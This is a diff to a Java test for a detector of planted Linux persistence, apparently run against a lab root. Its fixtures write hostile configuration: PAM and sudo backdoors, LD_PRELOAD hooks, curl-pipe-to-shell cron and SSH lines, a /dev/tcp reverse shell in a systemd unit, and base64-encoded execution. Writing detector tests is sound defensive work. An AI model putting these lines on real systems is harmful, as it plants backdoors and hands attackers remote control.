@@ -80,23 +80,7 @@ class HuntedRootTest {
 
     @Test
     void whatWasPlantedIsFoundWhereItStands() throws IOException {
-        add("etc/passwd", "systemd-log:x:0:0::/root:/bin/bash\ngames::5:60:games:/usr/games:/bin/bash\n");
-        add("etc/shadow", "daemon::19000:0:99999:7:::\n");
-        add("etc/sudoers", "Defaults !authenticate\nDefaults env_keep += \"LD_PRELOAD\"\n");
-        put("etc/sudoers.d/web", "www-data ALL=(ALL) NOPASSWD: ALL\n");
-        add("etc/ssh/sshd_config", "PermitEmptyPasswords yes\nAuthorizedKeysFile /var/tmp/.k\n");
-        put("etc/ssh/sshd_config.d/10-k.conf", "AuthorizedKeysCommand /usr/local/bin/k %u\n");
-        put("root/.ssh/config", "Host *\n  ProxyCommand sh -c 'curl -s http://203.0.113.4/|sh'\n");
-        put("root/.ssh/authorized_keys2", KEY);
-        put("var/www/.ssh/authorized_keys", "environment=\"LD_PRELOAD=/tmp/x.so\" " + KEY);
-        add(
-                "etc/pam.d/sshd",
-                "auth optional pam_exec.so expose_authtok /usr/local/bin/a\nauth sufficient pam_permit.so\n");
-        add("etc/pam.d/common-auth", "auth sufficient /var/tmp/.x/pam_u.so\n");
-        add(
-                "etc/modprobe.d/blacklist.conf",
-                "install tcp_diag /var/tmp/.m & /sbin/modprobe --ignore-install tcp_diag\n");
-        put("etc/ld.so.preload", "/usr/lib/libhide.so\n");
+        plant();
 
         List<Finding> findings = Hunted.withOwnContent(root).findings();
 
@@ -123,11 +107,44 @@ class HuntedRootTest {
                         "/etc/pam.d/sshd:5 pam_takes_anybody",
                         "/etc/pam.d/common-auth:4 pam_module_outside_the_libraries",
                         "/etc/modprobe.d/blacklist.conf:3 module_that_runs_a_command",
-                        "/etc/ld.so.preload:1 ld_preload_library");
+                        "/etc/ld.so.preload:1 ld_preload_library",
+                        "/etc/cron.d/sys:1 cron_downloads_and_runs",
+                        "/etc/systemd/system/ssh.service.d/a.conf:2 unit_preloads_a_library",
+                        "/etc/systemd/system/net.service:2 unit_opens_a_shell_to_outside",
+                        "/home/anna/.bashrc:1 shell_start_stands_in_for_a_program",
+                        "/home/anna/.bashrc:3 shell_start_from_a_temporary_place",
+                        "/etc/rc.local:2 start_script_runs_encoded_code");
         assertThat(findings).allSatisfy(finding -> {
             assertThat(finding.rule().level()).isGreaterThanOrEqualTo(Level.MEDIUM);
             assertThat(finding.target().name()).isEqualTo("lab-17");
             assertThat(finding.reasons()).isNotEmpty();
         });
+    }
+
+    private void plant() throws IOException {
+        add("etc/passwd", "systemd-log:x:0:0::/root:/bin/bash\ngames::5:60:games:/usr/games:/bin/bash\n");
+        add("etc/shadow", "daemon::19000:0:99999:7:::\n");
+        add("etc/sudoers", "Defaults !authenticate\nDefaults env_keep += \"LD_PRELOAD\"\n");
+        put("etc/sudoers.d/web", "www-data ALL=(ALL) NOPASSWD: ALL\n");
+        add("etc/ssh/sshd_config", "PermitEmptyPasswords yes\nAuthorizedKeysFile /var/tmp/.k\n");
+        put("etc/ssh/sshd_config.d/10-k.conf", "AuthorizedKeysCommand /usr/local/bin/k %u\n");
+        put("root/.ssh/config", "Host *\n  ProxyCommand sh -c 'curl -s http://203.0.113.4/|sh'\n");
+        put("root/.ssh/authorized_keys2", KEY);
+        put("var/www/.ssh/authorized_keys", "environment=\"LD_PRELOAD=/tmp/x.so\" " + KEY);
+        add(
+                "etc/pam.d/sshd",
+                "auth optional pam_exec.so expose_authtok /usr/local/bin/a\nauth sufficient pam_permit.so\n");
+        add("etc/pam.d/common-auth", "auth sufficient /var/tmp/.x/pam_u.so\n");
+        add(
+                "etc/modprobe.d/blacklist.conf",
+                "install tcp_diag /var/tmp/.m & /sbin/modprobe --ignore-install tcp_diag\n");
+        put("etc/ld.so.preload", "/usr/lib/libhide.so\n");
+        put("etc/cron.d/sys", "*/9 * * * * root curl -fs http://203.0.113.7/i | sh\n");
+        put("etc/systemd/system/ssh.service.d/a.conf", "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/libx.so\n");
+        put(
+                "etc/systemd/system/net.service",
+                "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'\n");
+        put("home/anna/.bashrc", "alias sudo=/home/anna/.cache/s\nif [ -n x ]; then\n  /tmp/.x/update &\nfi\n");
+        put("etc/rc.local", "#!/bin/sh\necho Y3VybA== | base64 -d | sh\n");
     }
 }
